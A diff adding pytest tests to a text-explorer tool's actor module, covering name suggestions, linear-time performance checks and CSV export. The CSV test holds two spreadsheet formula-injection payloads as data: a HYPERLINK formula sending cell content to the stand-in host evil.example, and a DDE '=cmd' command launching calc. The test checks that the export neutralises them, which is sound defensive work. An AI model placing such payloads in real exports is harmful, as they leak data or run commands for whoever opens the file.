@@ -1,13 +1,17 @@
 """Actors: the list, alias and transliteration matching, attribution, suggestions."""
 
 import csv
+import io
 import json
 import subprocess
 import sys
+import time
+from types import SimpleNamespace
 
 import pytest
 
-from explorer.actors import Actor, ActorIndex, load_actors, passage_actors
+from explorer import actors as actors_module
+from explorer.actors import Actor, ActorIndex, actors_csv, load_actors, passage_actors, suggest
 from explorer.sentences import sentence_spans
 
 from .conftest import ROOT
@@ -140,3 +144,107 @@ def test_suggest_lists_names_the_list_lacks(tmp_path):
     assert "Akrestsina" in found and "Minsk" in found
     assert "Lukashenka" not in found and "Amnesty International" not in found  # listed already
     assert "August" not in found and "December" not in found  # date words
+
+
+# what `suggest` gave on the seeds before it was made linear (issue 19): it must not change
+SEED_SUGGESTIONS = [("Belarus", 20), ("Belarusian", 5), ("West", 3), ("Belarusians", 2), ("Minsk", 2),
+                    ("Akrestsina", 1), ("Sanctions", 1), ("Constitution", 1), ("Workers", 1),
+                    ("Code of Administrative Offenses", 1), ("Eastern Europe and Central Asia", 1), ("Governments", 1),
+                    ("Towards", 1)]
+
+
+def test_suggestions_on_the_seeds_are_unchanged(seed_corpus):
+    rows = suggest(seed_corpus.documents, INDEX, limit=1000)
+    assert [(name, n) for name, n, _ in rows] == SEED_SUGGESTIONS
+    passages = {d.text[s:e] for d in seed_corpus.documents for s, e in d.passages}
+    assert all(example in passages and name.split()[0] in example for name, _, example in rows)
+
+
+def _document(text):
+    return SimpleNamespace(text=text, passages=[(0, len(text))])
+
+
+def _steps(run) -> int:
+    """Python steps (calls and lines) taken inside explorer/actors.py while `run()` runs:
+    a measure of work that does not depend on how busy the machine is."""
+    steps = 0
+
+    def local(frame, event, arg):
+        nonlocal steps
+        steps += 1
+        return local
+
+    def calls(frame, event, arg):
+        return local if frame.f_code.co_filename == actors_module.__file__ else None
+
+    previous = sys.gettrace()  # a coverage tracer, if any, is put back
+    sys.settrace(calls)
+    try:
+        run()
+    finally:
+        sys.settrace(previous)
+    return steps
+
+
+def _names_beside_actors(k):
+    """Issue 19's shape: one sentence of made-up capitalised names beside a listed actor."""
+    return "In Minsk " + "Lukashenka met Zorblat met " * k + "end."
+
+
+def test_name_finding_work_grows_in_proportion_to_the_text():
+    docs = {k: [_document(_names_beside_actors(k))] for k in (100, 800)}
+    assert suggest(docs[100], INDEX) == [("Zorblat", 100, docs[100][0].text)]  # the listed name left out
+    suggest(docs[100], INDEX)  # warm: imports and caches out of the count
+    work = {k: _steps(lambda: suggest(doc, INDEX)) for k, doc in docs.items()}
+    # linear: 8x the text, about 8x the steps (7.9 measured); checking every capital
+    # against every listed name of its sentence took 54x
+    assert work[800] / work[100] < 10, work
+    found = {k: _steps(lambda: INDEX.find(doc[0].text)) for k, doc in docs.items()}
+    assert found[800] / found[100] < 10, found
+
+
+def test_a_run_of_spaces_after_a_name_costs_in_proportion_to_it():
+    """The name pattern once tried every split of a run of spaces (quadratic in it). Timed, but
+    in this process's CPU time (other processes' load does not count), the best of several, and
+    as a ratio of equal amounts of linear work: 8 runs of 1x against 1 run of 8x, about 1 if
+    linear (at most 1.3 seen on a loaded 2-core machine), about 8 if quadratic."""
+    def text(n):
+        return "In Minsk Zorblat" + " " * n + "met them."
+
+    small, large = [_document(text(2_000))], [_document(text(16_000))]
+    assert [name for name, _, _ in suggest(large, INDEX)] == ["Minsk Zorblat"]
+
+    def best(run, times):
+        samples = []
+        for _ in range(5):
+            start = time.process_time()
+            for _ in range(times):
+                run()
+            samples.append(time.process_time() - start)
+        return min(samples)
+
+    ratio = best(lambda: suggest(large, INDEX), 1) / best(lambda: suggest(small, INDEX), 8)
+    assert ratio < 3, ratio
+
+
+HYPERLINK = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+CALC = "=cmd|' /C calc'!A0"
+
+
+def test_actor_list_csv_guards_formulas_and_reads_back(tmp_path):
+    typed = [Actor(HYPERLINK, "person", (HYPERLINK,)),
+             # CALC typed as other spellings: the page splits it at "|"
+             Actor("Akrestsina", "place", ("Akrestsina", "=cmd", "' /C calc'!A0")),
+             Actor(CALC, "+1+1", (CALC, "Calc")),
+             Actor("Anna", "person", ("Anna", "-2+3", "@SUM(A1)", "'=already quoted"))]
+    data = actors_csv(typed)
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]  # nothing a spreadsheet would run
+    assert "'=HYPERLINK" in data.decode() and "'=cmd|' /C calc'!A0" in data.decode()
+    (tmp_path / "actors.csv").write_bytes(data)
+    assert load_actors(tmp_path / "actors.csv") == typed
+
+
+def test_the_shipped_actor_list_reads_back_unchanged(tmp_path):
+    (tmp_path / "actors.csv").write_bytes(actors_csv(load_actors()))
+    assert load_actors(tmp_path / "actors.csv") == load_actors()
